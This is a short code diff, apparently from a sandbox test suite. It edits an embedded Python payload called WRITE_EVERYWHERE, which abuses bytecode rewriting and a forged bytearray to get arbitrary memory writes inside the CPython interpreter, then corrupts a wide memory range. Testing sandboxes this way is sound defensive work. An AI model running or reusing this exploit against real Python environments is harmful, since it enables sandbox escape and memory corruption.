@@ -199,7 +199,7 @@ const DIRTY: Readonly<Record<string, () => Promise<unknown>>> = {
 const WRITE_EVERYWHERE = `
 import struct, opcode, types
 o = opcode.opmap
-fake = struct.pack("<iiIiiIIIi", 1000, 0, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
+fake = struct.pack("<iIiiIIii", 1000, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0)
 address = id(fake) + bytes.__basicsize__ - 1
 holder = struct.pack("<I", address) * 4
 def read(): pass
@@ -212,7 +212,7 @@ code = bytes([o["RESUME"], 0]) + code + bytes([o["LOAD_CONST"], index & 255, o["
 read.__code__ = read.__code__.replace(co_code=code)
 memory = read()
 if type(memory) is bytearray:
-    for at in range(16 << 20, 44 << 20, 40961):
+    for at in range(17 << 20, 40 << 20, 40961):
         memory[at] = 0xA5
 `;
 
